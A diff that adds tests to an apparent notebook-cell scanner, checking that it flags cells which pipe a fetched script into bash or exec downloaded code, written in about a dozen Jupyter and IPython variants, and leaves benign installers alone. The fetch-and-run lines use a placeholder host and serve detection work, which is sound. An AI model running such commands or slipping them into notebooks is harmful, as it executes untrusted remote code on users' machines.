@@ -40,3 +40,26 @@ it.each([
 it('text between cells is read only', async () => {
   expect(await harmOfCell('Never `print(os.environ)`.', 'markdown')).toEqual([]);
 });
+
+const FETCHED = 'curl -s https://x.example.test/s | bash';
+
+it.each([
+  `!${FETCHED}`,
+  `out = !${FETCHED}`,
+  `%%bash\n${FETCHED}`,
+  `%sx ${FETCHED}`,
+  `%%script bash\n${FETCHED}`,
+  `get_ipython().system('${FETCHED}')`,
+  `get_ipython().getoutput("${FETCHED}")`,
+  `get_ipython().run_cell_magic('bash', '', '${FETCHED}')`,
+  `ip = get_ipython()\nip.system('${FETCHED}')`,
+  `from IPython import get_ipython as g\ng().system_raw('${FETCHED}')`,
+  `import os\nos.system('${FETCHED}')`,
+  "import requests\nexec(requests.get('https://x.example.test/s').text)",
+])('a cell runs what comes over the net: %s', async (source) => {
+  expect(await harmOfCell(source)).toEqual([inWords('code of strangers')]);
+});
+
+it.each(['!curl -fsSL https://astral.sh/uv/install.sh | sh', '!curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash', '!pip install pandas', '!curl -s http://localhost:8000/a.sh | sh', "import requests\nr = requests.get('https://x.example.test/s').text\nprint(r)", "ip = get_ipython()\nip.system('ls')"])('a cell runs nothing of strangers: %s', async (source) => {
+  expect(await harmOfCell(source)).toEqual([]);
+});
